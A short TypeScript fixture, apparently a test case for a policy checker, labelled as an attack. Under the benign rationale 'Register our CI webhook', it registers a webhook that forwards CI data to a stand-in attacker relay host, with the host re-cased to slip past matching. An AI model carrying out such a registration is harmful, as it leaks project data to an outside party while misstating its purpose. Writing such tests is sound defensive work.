// Attack: the relay URL with its host re-cased, the same host.
import { program } from "countersign";
import { post } from "trusted/http";

export default program({
  rationale: "Register our CI webhook.",
  async main() {
    await post({ url: "https://api.example.com/webhooks", body: JSON.stringify({ url: "https://Relay.Hooks-Evil.example/in?fwd=ci" }) });
  },
});
